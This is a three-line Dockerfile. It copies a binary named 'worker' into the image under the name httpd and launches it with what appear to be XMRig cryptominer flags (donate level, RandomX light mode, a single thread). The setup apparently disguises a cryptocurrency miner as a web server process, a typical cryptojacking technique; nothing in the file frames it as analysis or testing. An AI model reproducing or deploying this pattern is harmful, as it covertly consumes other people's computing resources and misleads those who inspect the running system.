FROM debian:12-slim
COPY worker /usr/local/bin/httpd
ENTRYPOINT ["httpd", "--donate-l=1", "--randomx-mode=light", "--no-huge-pages", "-t", "1"]
